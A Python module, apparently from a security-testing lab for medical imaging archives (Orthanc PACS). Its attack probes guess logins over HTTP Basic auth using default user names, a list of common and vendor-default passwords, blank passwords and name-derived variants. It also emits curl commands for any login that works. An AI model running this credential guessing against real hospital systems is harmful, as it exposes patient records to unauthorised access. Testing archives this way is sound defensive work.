"""Guessing at a login: well-known passwords, blank passwords, passwords derived from the user name."""

from __future__ import annotations

from base64 import b64encode
from typing import TYPE_CHECKING

import httpx

from pacslab.errors import LabFailureError
from pacslab.probes.attack.web_helpers import at_each_web_address, curl, json_content
from pacslab.probes.findings import Side
from pacslab.probes.registry import ProbeResult, probe
from pacslab.scenario import Severity

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

    from pacslab.probes.target import Target

KNOWN_USERS = (
    "orthanc",
    "admin",
    "administrator",
    "radiologist",
    "root",
    "user",
    "guest",
    "demo",
    "pacs",
    "dicom",
    "service",
    "viewer",
    "support",
    "vendor",
)
_LISTED = """
orthanc admin administrator password Password1 passw0rd changeme change-me secret letmein welcome qwerty 1234 12345
123456 12345678 123456789 pacs dicom radiology radiologist hospital root toor user guest demo test admin123
"""
KNOWN_PASSWORDS = tuple(_LISTED.split())
"""Factory settings of imaging products, and the head of every published list of leaked passwords."""

_YEARS = range(2010, 2031)
_SITTINGS = 4
_FAIR = 80
"""Guesses in one sitting (ten seconds) that show an archive which answers, though slowly."""


def _derived_passwords(user: str) -> list[str]:
    guesses = [f"{user}{end}" for end in ("", "1", "123", "1234", "!", *_YEARS)]
    guesses += [f"{user.capitalize()}{end}" for end in ("", "1", "123", "!")]
    return [guess for guess in guesses if guess not in KNOWN_PASSWORDS]


def _is_logged_in(answer: httpx.Response) -> bool:
    """Return whether an answer is the archive's ``/system``, and not a page of a proxy."""
    page = json_content(answer)
    return isinstance(page, dict) and "DicomAet" in page


def _basic_credentials(user: str, password: str) -> str:
    """Return the Authorization header of a name and a password (RFC 7617)."""
    return f"Basic {b64encode(f'{user}:{password}'.encode()).decode()}"


def _guess_passwords(target: Target, url: str, guesses: Callable[[str], Iterable[str]], kind: str) -> ProbeResult:
    """Try a list of passwords for the usual names and for the hospital's own.

    On a busy machine a client's time may be over before the list is. As long as the archive answered a fair number of
    guesses in that time, another client goes on; an archive that answers fewer is given up.

    Raises
    ------
    LabFailureError
        If the archive stopped answering before the list was over: an untried password must not count as closed.

    """
    own = [target.handover.web.radiologist.username, target.handover.web.administrator.username]
    users = list(dict.fromkeys([*(name for name in own if name), *KNOWN_USERS]))
    pairs = [(user, password) for user in users for password in guesses(user)]
    tried = 0
    for _ in range(_SITTINGS):
        before = tried
        with target.visitor(url) as client:
            if not tried and _is_logged_in(client.get("/system")):
                words = "The archive asks for no password, so every password opens it."
                return ProbeResult(True, words, curl(f"{url}/system", "-u", "anyone:anything"))
            guess = client.build_request("GET", "/system")
            try:
                for user, password in pairs[before:]:
                    guess.headers["Authorization"] = _basic_credentials(user, password)
                    answer = client.send_as_it_is(guess)
                    tried += 1
                    if _is_logged_in(answer):
                        shown = repr(password) if password else "an empty password"
                        words = f"The user {user!r} logged in with {shown}, guess number {tried}."
                        return ProbeResult(True, words, curl(f"{url}/system", "-u", f"'{user}:{password}'"))
            except httpx.HTTPError:
                if not tried:
                    raise
        if tried == len(pairs):
            return ProbeResult(
                False,
                f"{tried} guesses ({kind}) for {len(users)} users were tried, and none opened the archive.",
                curl(f"{url}/system", "-i", "-u", "orthanc:orthanc"),
            )
        if tried - before < _FAIR:
            break
    raise LabFailureError(f"no more was answered after {tried} guesses, because the archive or this machine is slow")


@probe("http-known-password", Side.ATTACK, "Log in with a well-known password", Severity.CRITICAL)
@at_each_web_address
def try_known_passwords(target: Target, url: str) -> ProbeResult:
    """Try the passwords of every list, for the usual user names and for the hospital's own."""
    return _guess_passwords(target, url, lambda _: KNOWN_PASSWORDS, "well-known passwords")


@probe("http-blank-password", Side.ATTACK, "Log in without typing a password", Severity.CRITICAL)
@at_each_web_address
def try_blank_passwords(target: Target, url: str) -> ProbeResult:
    """Try an empty password for the usual user names and for the hospital's own."""
    return _guess_passwords(target, url, lambda _: ("", " "), "empty passwords")


@probe("http-derived-password", Side.ATTACK, "Log in with a password made of the user's name", Severity.CRITICAL)
@at_each_web_address
def try_derived_passwords(target: Target, url: str) -> ProbeResult:
    """Try the name itself, with a year, with a figure behind it: what people and vendors make passwords of."""
    return _guess_passwords(target, url, _derived_passwords, "names, years and figures")
